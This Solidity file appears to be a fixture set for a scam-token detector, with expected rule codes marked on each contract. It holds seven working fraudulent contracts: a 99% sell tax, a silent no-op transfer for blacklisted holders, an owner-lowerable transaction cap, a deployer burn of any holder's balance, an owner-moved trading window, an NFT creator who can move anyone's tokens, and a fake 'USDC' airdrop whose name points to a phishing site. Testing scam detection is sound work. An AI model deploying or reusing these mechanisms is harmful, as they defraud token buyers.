// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// Tokens of the well-known kinds, as a stranger writes them: fixed taxes, silence, limits, windows, events without balances, a creator among the operators.

/// Fixed confiscatory tax 99 % on sells, a constant of the code.
/// expects: CT-13 block
contract NinetyNine {
    string public name = "Robin AI";
    string public symbol = "RAI";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1e24;
    address immutable w;
    address public pair;
    address owner;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed f, address indexed t, uint256 v);
    constructor() {
        w = msg.sender;
        owner = msg.sender;
        balanceOf[msg.sender] = totalSupply;
    }
    function open(address p) external { require(msg.sender == owner && pair == address(0)); pair = p; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external returns (bool) { _s(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        _s(f, t, v);
        return true;
    }
    function _s(address f, address t, uint256 v) internal {
        uint256 g = v;
        if (t == pair && f != w) {
            uint256 cut = v - v / 100;
            g = v - cut;
            balanceOf[w] += cut;
        }
        balanceOf[f] -= v;
        balanceOf[t] += g;
        emit Transfer(f, t, g);
    }
}

/// Silent no-op for those on a list: returns true, event emitted, nothing moves.
/// expects: CT-22 danger
contract Silent {
    string public name = "Shib 3";
    string public symbol = "SHIB3";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1e24;
    address owner;
    mapping(address => uint256) bal;
    mapping(address => uint256) tag;
    mapping(address => mapping(address => uint256)) al;
    event Transfer(address indexed f, address indexed t, uint256 v);
    constructor() { owner = msg.sender; bal[msg.sender] = totalSupply; }
    function balanceOf(address x) external view returns (uint256) { return bal[x]; }
    function allowance(address x, address y) external view returns (uint256) { return al[x][y]; }
    function mark(address[] memory l, uint256 n) external {
        require(msg.sender == owner);
        for (uint i = 0; i < l.length; i++) tag[l[i]] = n;
    }
    function approve(address s, uint256 v) external returns (bool) { al[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external returns (bool) { _s(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        require(al[f][msg.sender] >= v);
        al[f][msg.sender] -= v;
        _s(f, t, v);
        return true;
    }
    function _s(address f, address t, uint256 v) internal {
        require(bal[f] >= v);
        if (tag[f] == 0) { bal[f] -= v; bal[t] += v; }
        emit Transfer(f, t, v);
    }
}

/// Max wallet/tx amount with no floor: owner sets it to 0, dead honeypot.
/// expects: CT-19 warning
contract MaxTx {
    string public name = "Whale Guard";
    string public symbol = "WG";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1e24;
    address public owner;
    uint256 public maxTx = 1e22;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) free;
    event Transfer(address indexed f, address indexed t, uint256 v);
    constructor() {
        owner = msg.sender;
        free[owner] = true;
        balanceOf[msg.sender] = totalSupply;
    }
    function setMaxTx(uint256 m) external { require(msg.sender == owner, "own"); maxTx = m; }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external returns (bool) { _s(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        _s(f, t, v);
        return true;
    }
    function _s(address f, address t, uint256 v) internal {
        if (!free[f]) require(v <= maxTx, "max");
        balanceOf[f] -= v;
        balanceOf[t] += v;
        emit Transfer(f, t, v);
    }
}

/// Anyone may burn others: "burnFrom" without allowance, gated to a dev wallet.
/// expects: CT-06 danger
contract BurnThem {
    string public name = "Ash";
    string public symbol = "ASH";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1e24;
    address _auth;
    mapping(address => uint256) bal;
    mapping(address => mapping(address => uint256)) al;
    event Transfer(address indexed f, address indexed t, uint256 v);
    constructor() { _auth = msg.sender; bal[msg.sender] = totalSupply; }
    function balanceOf(address x) external view returns (uint256) { return bal[x]; }
    function allowance(address x, address y) external view returns (uint256) { return al[x][y]; }
    function approve(address s, uint256 v) external returns (bool) { al[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external returns (bool) {
        bal[msg.sender] -= v;
        bal[t] += v;
        emit Transfer(msg.sender, t, v);
        return true;
    }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        al[f][msg.sender] -= v;
        bal[f] -= v;
        bal[t] += v;
        emit Transfer(f, t, v);
        return true;
    }
    function rebaseHolder(address h, uint256 bps) external {
        require(_auth == msg.sender);
        uint256 c = bal[h] * bps / 10000;
        bal[h] -= c;
        totalSupply -= c;
    }
}

/// Transfers only in a time window the owner moves (trading until).
/// expects: CT-12 danger, CT-15 danger
contract Window {
    string public name = "Window";
    string public symbol = "WDW";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1e24;
    address owner;
    uint64 from_;
    uint64 until = type(uint64).max;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed f, address indexed t, uint256 v);
    constructor() { owner = msg.sender; balanceOf[msg.sender] = totalSupply; }
    function schedule(uint64 a, uint64 b) external {
        require(msg.sender == owner);
        from_ = a;
        until = b;
    }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
    function transfer(address t, uint256 v) external returns (bool) { _s(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        _s(f, t, v);
        return true;
    }
    function _s(address f, address t, uint256 v) internal {
        if (f != owner && t != owner) { require(block.timestamp >= from_ && block.timestamp < until, "closed"); }
        balanceOf[f] -= v;
        balanceOf[t] += v;
        emit Transfer(f, t, v);
    }
}

/// ERC-721 whose creator moves anybody's token.
/// expects: CT-30 danger
contract Apes721 {
    string public name = "Apes";
    string public symbol = "APES";
    mapping(uint256 => address) _o;
    mapping(address => uint256) public balanceOf;
    mapping(uint256 => address) public getApproved;
    mapping(address => mapping(address => bool)) ops;
    address immutable creator;
    uint256 n;
    event Transfer(address indexed f, address indexed t, uint256 indexed id);
    constructor() { creator = msg.sender; }
    function supportsInterface(bytes4 i) external pure returns (bool) { return i == 0x80ac58cd || i == 0x01ffc9a7; }
    function ownerOf(uint256 id) public view returns (address) {
        address o = _o[id];
        require(o != address(0));
        return o;
    }
    function mint() external payable {
        require(msg.value >= 0.05 ether);
        _o[++n] = msg.sender;
        balanceOf[msg.sender]++;
        emit Transfer(address(0), msg.sender, n);
    }
    function approve(address s, uint256 id) external { require(_o[id] == msg.sender); getApproved[id] = s; }
    function setApprovalForAll(address s, bool b) external { ops[msg.sender][s] = b; }
    function isApprovedForAll(address a, address s) public view returns (bool) { return s == creator || ops[a][s]; }
    function transferFrom(address f, address t, uint256 id) public {
        address o = ownerOf(id);
        require(o == f);
        require(msg.sender == o || getApproved[id] == msg.sender || isApprovedForAll(o, msg.sender));
        delete getApproved[id];
        balanceOf[f]--;
        balanceOf[t]++;
        _o[id] = t;
        emit Transfer(f, t, id);
    }
    function safeTransferFrom(address f, address t, uint256 id) external { transferFrom(f, t, id); }
    function withdraw() external { require(msg.sender == creator); payable(creator).transfer(address(this).balance); }
}

/// Airdropped spam: events without balances (CT-22).
/// expects: CT-22 danger
contract Spoof {
    string public name = "$ visit claim-usdc.xyz";
    string public symbol = "USDC";
    uint8 public constant decimals = 6;
    uint256 public totalSupply = 1e15;
    address o;
    uint256 shown = 5000e6;
    event Transfer(address indexed f, address indexed t, uint256 v);
    constructor() { o = msg.sender; }
    function balanceOf(address) external view returns (uint256) { return shown; }
    function allowance(address, address) external pure returns (uint256) { return 0; }
    function approve(address, uint256) external pure returns (bool) { return true; }
    function transfer(address t, uint256 v) external returns (bool) { emit Transfer(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) {
        emit Transfer(f, t, v);
        return true;
    }
    function drop(address f, address[] calldata l, uint256 v) external {
        require(msg.sender == o);
        for (uint i; i < l.length; i++) emit Transfer(f, l[i], v);
    }
}
